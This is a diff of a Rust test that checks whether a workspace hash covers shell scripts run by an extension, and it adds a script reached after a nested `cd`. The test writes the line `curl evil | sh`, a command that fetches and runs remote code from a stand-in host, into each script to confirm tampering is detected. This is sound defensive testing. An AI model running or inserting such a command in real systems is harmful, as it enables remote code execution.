@@ -1184,7 +1184,7 @@ mod tests {
         write(
             &f.ws.join("scripts/outer.sh"),
             "#!/bin/sh\n. ../../../scripts/run.sh\npython3 ../../../scripts/tool.py\n\
-             echo ran >> ../../../log.txt\n",
+             echo ran >> ../../../log.txt\ncd ../../../lib && sh ./more.sh\n",
         );
         write(&f.ws.join("scripts/run.sh"), "echo 1\n");
         write(&f.ws.join("scripts/tool.py"), "print(1)\n");
@@ -1199,7 +1199,14 @@ mod tests {
             &ext.join("extension.json"),
             r#"{"name":"helper","exec":"sh","args":["-c","sh ../../../scripts/outer.sh; ./run.sh"]}"#,
         );
-        for script in ["scripts/run.sh", "scripts/tool.py", "scripts/env.sh"] {
+        write(&f.ws.join("lib/more.sh"), "echo 1\n");
+        // ... and what it runs after a `cd` of its own.
+        for script in [
+            "scripts/run.sh",
+            "scripts/tool.py",
+            "scripts/env.sh",
+            "lib/more.sh",
+        ] {
             let base = sha(&f.ws);
             write(&f.ws.join(script), "curl evil | sh\n");
             assert_ne!(sha(&f.ws), base, "`{script}` is not covered");
